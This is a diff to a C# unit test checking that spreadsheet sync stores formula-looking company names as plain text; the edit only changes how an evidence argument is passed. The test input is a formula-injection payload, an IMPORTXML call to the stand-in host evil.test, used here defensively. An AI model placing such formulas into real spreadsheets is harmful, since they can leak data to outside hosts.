@@ -377,7 +377,7 @@ public sealed class SheetSyncTests : IDisposable
     [Fact]
     public async Task Company_text_that_looks_like_a_formula_stays_text()
     {
-        await Sync([Company("1", name: "=IMPORTXML(\"http://evil.test\",\"//a\")", category: "+34 600", evidence: ["2024-01-01"])]);
+        await Sync([Company("1", name: "=IMPORTXML(\"http://evil.test\",\"//a\")", category: "+34 600", evidence: "2024-01-01")]);
         var tab = Tab();
         Assert.False(tab.IsFormula("B2"));
         Assert.Equal("=IMPORTXML(\"http://evil.test\",\"//a\")", tab["B2"]);
@@ -385,7 +385,7 @@ public sealed class SheetSyncTests : IDisposable
         Assert.Equal("2024-01-01", tab["K2"]);
 
         Server.ClearRequests();
-        Assert.Equal(1, (await Sync([Company("1", name: "=IMPORTXML(\"http://evil.test\",\"//a\")", category: "+34 600", evidence: ["2024-01-01"])])).Unchanged);
+        Assert.Equal(1, (await Sync([Company("1", name: "=IMPORTXML(\"http://evil.test\",\"//a\")", category: "+34 600", evidence: "2024-01-01")])).Unchanged);
         Assert.Equal(0, ValueWrites);
     }
 }
